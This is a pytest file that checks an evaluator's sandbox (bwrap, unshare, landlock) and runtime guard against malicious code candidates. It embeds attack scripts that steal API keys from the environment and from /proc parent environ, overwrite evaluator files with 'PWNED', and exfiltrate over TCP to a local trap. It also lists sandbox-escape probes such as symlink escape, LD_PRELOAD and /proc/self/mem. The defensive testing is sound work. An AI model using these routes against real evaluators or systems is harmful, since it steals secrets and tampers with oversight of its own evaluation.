"""The sandbox and the runtime guard keep a malicious candidate from leaking or damaging anything.

Two layers are tested:

* ``sandbox.plan`` on its own, for every mechanism that works on this host (bwrap,
  unshare, landlock, none): a plain malicious script (no guard) tries to read an API
  key from its environment, write into a "run directory" and into evaluator/*.py, and
  connect to a TCP server run by the test; the evidence is checked afterwards.
* the full ``evaluate()`` path with the static check switched off (so the candidate
  really runs): the same attempts from inside a candidate module, under the sandbox
  and the guard; the evaluation must end ``forbidden`` and leave no trace.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from evaluator import sandbox

ROOT = Path(__file__).resolve().parent.parent
EVALUATOR_TARGET = ROOT / "evaluator" / "sandbox.py"   # the file the attacker tries to modify
FAKE_KEY = "sk-evolve-FAKE-" + hashlib.sha1(str(os.getpid()).encode()).hexdigest()[:16]


class TcpTrap:
    """A local TCP server that records every connection it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.hits: list[bytes] = []
        self._stop = False
        self._t = threading.Thread(target=self._serve, daemon=True)
        self._t.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.hits.append(conn.recv(4096) or b"<connected>")
            except OSError:
                self.hits.append(b"<connected>")
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._t.join(timeout=5)
        self.sock.close()


@pytest.fixture
def trap():
    t = TcpTrap()
    yield t
    t.close()


@pytest.fixture
def victim(tmp_path, monkeypatch):
    """A fake key in the parent env, a run dir with a sentinel, and the evaluator file's hash."""
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    monkeypatch.setenv("EVOLVE_TEST_TOKEN", FAKE_KEY)
    run = tmp_path / "run"
    run.mkdir()
    sentinel = run / "lineage.db"
    sentinel.write_text("sentinel\n")
    before = EVALUATOR_TARGET.read_bytes()
    yield {"run": run, "sentinel": sentinel, "leak": run / "leak.txt"}
    after = EVALUATOR_TARGET.read_bytes()
    if after != before:  # never leave a damaged evaluator behind, then fail loudly
        EVALUATOR_TARGET.write_bytes(before)
        pytest.fail("the candidate modified evaluator/sandbox.py")


ATTACK = r'''
import json, os, socket, sys
res = {"key": os.environ.get("OPENAI_API_KEY"), "token": os.environ.get("EVOLVE_TEST_TOKEN")}
if sys.argv[5] == "landlock":
    from evaluator.sandbox import apply_in_process
    res["landlock"] = apply_in_process(os.getcwd())
def attempt(name, fn):
    try:
        fn()
        res[name] = "done"
    except Exception as e:
        res[name] = type(e).__name__
attempt("sentinel", lambda: open(sys.argv[1], "a").write("PWNED"))
attempt("evaluator", lambda: open(sys.argv[2], "a").write("# PWNED"))
attempt("leak", lambda: open(sys.argv[3], "w").write(str(os.environ)))
attempt("scratch", lambda: open("inside-scratch.txt", "w").write("ok"))
def connect():
    s = socket.create_connection(("127.0.0.1", int(sys.argv[4])), timeout=2)
    s.sendall(b"exfil")
    s.close()
attempt("socket", connect)
def parent_env():
    data = open("/proc/%d/environ" % os.getppid(), "rb").read()
    res["parent_env_has_key"] = b"OPENAI_API_KEY" in data
attempt("parent_env", parent_env)
caps = [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff:")]
res["cap_eff"] = int(caps[0], 16) if caps else None
print(json.dumps(res))
'''


def _run_plan(mode: str, tmp_path: Path, victim: dict, trap: TcpTrap, monkeypatch) -> dict:
    monkeypatch.setenv("EVOLVE_SANDBOX", mode)
    script = tmp_path / "attack.py"
    script.write_text(ATTACK)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    p = sandbox.plan([sys.executable, str(script), str(victim["sentinel"]), str(EVALUATOR_TARGET),
                      str(victim["leak"]), str(trap.port), mode],
                     scratch_dir=scratch, read_only_paths=[script], gpu=None)
    assert p.mode == mode and p.isolation
    r = subprocess.run(p.argv, env=p.env, cwd=scratch, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]
    out = json.loads(r.stdout.strip().splitlines()[-1])
    assert FAKE_KEY not in r.stdout + r.stderr
    assert out["key"] is None and out["token"] is None
    assert (scratch / "inside-scratch.txt").read_text() == "ok"
    return out


def _assert_untouched(victim: dict, trap: TcpTrap) -> None:
    assert victim["sentinel"].read_text() == "sentinel\n"
    assert not victim["leak"].exists()
    assert trap.hits == []


def test_scrubbed_env_is_an_allow_list(tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    monkeypatch.setenv("TRITON_API_TOKEN", FAKE_KEY)     # allowed prefix, secret-looking name
    monkeypatch.setenv("SOME_RANDOM_VAR", "x")
    monkeypatch.setenv("TRITON_INTERPRET", "1")
    env = sandbox.scrubbed_env(tmp_path, gpu=3, mode="none")
    assert FAKE_KEY not in json.dumps(env)
    assert "SOME_RANDOM_VAR" not in env
    assert env["TRITON_INTERPRET"] == "1"
    assert env["HOME"] == str(tmp_path / "home") and env["TMPDIR"].startswith(str(tmp_path))
    assert env["TRITON_CACHE_DIR"].startswith(str(tmp_path))
    assert env["CUDA_VISIBLE_DEVICES"] == "3"
    assert env["PYTHONPATH"] == str(ROOT)


def test_unknown_mode_is_a_clear_error(tmp_path, monkeypatch):
    monkeypatch.setenv("EVOLVE_SANDBOX", "chroot")
    with pytest.raises(sandbox.SandboxUnavailable, match="EVOLVE_SANDBOX"):
        sandbox.plan([sys.executable, "-c", "pass"], scratch_dir=tmp_path, read_only_paths=[], gpu=None)


def test_auto_picks_the_strongest_working_mode(tmp_path, monkeypatch):
    monkeypatch.setenv("EVOLVE_SANDBOX", "auto")
    p = sandbox.plan([sys.executable, "-c", "pass"], scratch_dir=tmp_path, read_only_paths=[], gpu=None)
    assert p.mode == sandbox.available_modes()[0]


@pytest.mark.parametrize("mode", ["bwrap", "unshare", "landlock"])
def test_confined_script_cannot_leak_or_write(mode, tmp_path, victim, trap, monkeypatch):
    if mode not in sandbox.available_modes():
        pytest.skip(f"{mode} does not work on this host")
    out = _run_plan(mode, tmp_path, victim, trap, monkeypatch)
    _assert_untouched(victim, trap)
    assert out["socket"] != "done"
    assert out.get("parent_env_has_key") is not True
    if mode == "bwrap" or (mode == "unshare" and shutil.which("setpriv")):
        assert out["cap_eff"] == 0, "the sandboxed process kept capabilities (could remount rw)"
    if mode == "landlock":
        assert out["landlock"] and out["landlock"].startswith("landlock(")
        assert out["sentinel"] == "PermissionError" and out["evaluator"] == "PermissionError"


def test_fallback_none_still_scrubs_the_environment(tmp_path, trap, monkeypatch):
    # mode "none" confines nothing by itself (the guard does, see below): only the env is
    # checked here, against a scratch-only target so nothing real is touched.
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    monkeypatch.setenv("EVOLVE_TEST_TOKEN", FAKE_KEY)
    dummy = {"sentinel": tmp_path / "s", "leak": tmp_path / "l"}
    monkeypatch.setattr(sys.modules[__name__], "EVALUATOR_TARGET", tmp_path / "e.py")
    out = _run_plan("none", tmp_path, dummy, trap, monkeypatch)
    assert out["key"] is None


def test_apply_in_process_respects_none(tmp_path):
    code = "from evaluator.sandbox import apply_in_process; print(apply_in_process(%r))" % str(tmp_path)
    env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), "EVOLVE_SANDBOX": "none"}
    r = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=120)
    assert r.stdout.strip() == "None", r.stderr


MALICIOUS_CANDIDATE = '''
"""Malicious candidate: tries every exfiltration/damage route at import, swallowing errors."""
import os, socket, sys
import torch
import triton
import triton.language as tl

KEY = os.environ.get("OPENAI_API_KEY", "") + os.environ.get("EVOLVE_TEST_TOKEN", "")


def _attempt(fn):
    try:
        fn()
    except BaseException:
        pass


_attempt(lambda: open(SENTINEL, "a").write("PWNED " + KEY))
_attempt(lambda: open(EVALUATOR_FILE, "a").write("# PWNED"))
_attempt(lambda: open(LEAK, "w").write(KEY + str(dict(os.environ))))
_attempt(lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"exfil " + KEY.encode()))
_attempt(lambda: open(LEAK, "wb").write(open("/proc/%d/environ" % os.getppid(), "rb").read()))
print("stolen:", KEY, file=sys.stderr)


@triton.jit
def _copy(X, Y):
    tl.store(Y, tl.load(X))


def attention(q, k, v, *, causal=False, sm_scale=None):
    out = torch.zeros_like(q)
    _copy[(1,)](q, out)
    return out
'''


@pytest.mark.parametrize("mode", ["auto", "none"])
def test_malicious_candidate_through_evaluate(mode, tmp_path, victim, trap, monkeypatch):
    from evaluator import EvalOptions, evaluate

    if mode != "auto" and mode not in sandbox.available_modes():
        pytest.skip(f"{mode} unavailable")
    monkeypatch.setenv("EVOLVE_SANDBOX", mode)
    src = (MALICIOUS_CANDIDATE
           .replace("SENTINEL", repr(str(victim["sentinel"])))
           .replace("EVALUATOR_FILE", repr(str(EVALUATOR_TARGET)))
           .replace("LEAK", repr(str(victim["leak"])))
           .replace("PORT", str(trap.port)))
    cand = tmp_path / "malicious.py"
    cand.write_text(src)
    log = tmp_path / "worker.log"
    res = evaluate(cand, target="gqa", suite="smoke",
                   options=EvalOptions(static_check=False, timeout_s=300, log_path=log))
    assert res.status == "rejected"
    assert res.failure.cls == "forbidden", res.failure
    text = res.to_json() + (log.read_text() if log.exists() else "")
    assert FAKE_KEY not in text
    _assert_untouched(victim, trap)
    iso = res.env.get("isolation", "")
    assert iso, res.env
    if mode == "none":
        assert iso.startswith("none")


GUARD_PROBES = {
    "symlink_escape": "import os\nos.symlink({outside!r}, 'link')\nopen('link/x', 'w').write('1')\n",
    "toolchain_from_candidate": "import subprocess\nsubprocess.run(['gcc', '--version'], capture_output=True)\n",
    "parent_environ": "import os\nopen('/proc/%d/environ' % os.getppid(), 'rb').read()\n",
    "ld_preload": "import os\nos.environ['LD_PRELOAD'] = 'evil.so'\n",
    "os_open_outside": "import os\nos.close(os.open({outside!r} + '/f', os.O_WRONLY | os.O_CREAT))\n",
    "getframe": "import sys\nf = sys._getframe(0)\n",
    "own_memory": "f = open('/proc/self/mem', 'rb')\n",
    "swallowed_violation": "try:\n    open({outside!r} + '/g', 'w')\nexcept BaseException:\n    pass\n",
}
ATTENTION_STUB = "\n\ndef attention(q, k, v, *, causal=False, sm_scale=None):\n    return q.clone()\n"


def test_guard_denies_routes_around_the_sandbox(tmp_path):
    """Under the guard alone (as in EVOLVE_SANDBOX=none), each probe is stopped and the
    outside directory stays empty."""
    outside = tmp_path / "outside"
    outside.mkdir()
    files = []
    for name, body in GUARD_PROBES.items():
        f = tmp_path / f"{name}.py"
        f.write_text(body.format(outside=str(outside)) + ATTENTION_STUB)
        files.append(str(f))
    r = subprocess.run([sys.executable, str(ROOT / "tests" / "guard_harness.py"), str(tmp_path / "s"), *files],
                       capture_output=True, text=True, timeout=600, cwd=ROOT)
    got = {Path(d["file"]).stem: d for d in map(json.loads, r.stdout.splitlines())}
    assert set(got) == set(GUARD_PROBES), r.stderr[-2000:]
    for name, d in got.items():
        assert d["outcome"] == "forbidden", (name, d)
    assert list(outside.iterdir()) == []


PROC_COMM = """
import os, sys, tempfile
from pathlib import Path
from evaluator import sandbox
print(sandbox.apply_in_process(Path(tempfile.mkdtemp()), profiler=sys.argv[1] == "1"))
for path in (f"/proc/self/task/{os.getpid()}/comm", sys.argv[2]):
    try:
        with open(path, "w") as f:
            f.write("evolve-probe")
        print("written")
    except OSError:
        print("denied")
"""


@pytest.mark.skipif(sandbox.landlock_abi() < 1, reason="no Landlock on this kernel")
def test_landlock_denies_proc_writes_even_for_the_profiler(tmp_path):
    """Writes under /proc stay denied with the ``profiler`` setting too (only TCP and
    abstract UNIX are lifted): /proc/self/mem would let native code rewrite the worker.
    That is also why a process that starts CUDA under this Landlock fails (cuInit names
    its threads in /proc/<pid>/task/<tid>/comm; error 304), see evaluator/ncu.py."""
    outside = tmp_path / "outside"
    for profiler in ("0", "1"):
        r = subprocess.run([sys.executable, "-c", PROC_COMM, profiler, str(outside)], capture_output=True,
                           text=True, timeout=60, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})
        lines = r.stdout.split()
        assert r.returncode == 0 and lines[1:] == ["denied", "denied"], (profiler, r.stdout, r.stderr)
        assert ("net" in lines[0]) == (profiler == "0"), lines[0]
    assert not outside.exists()
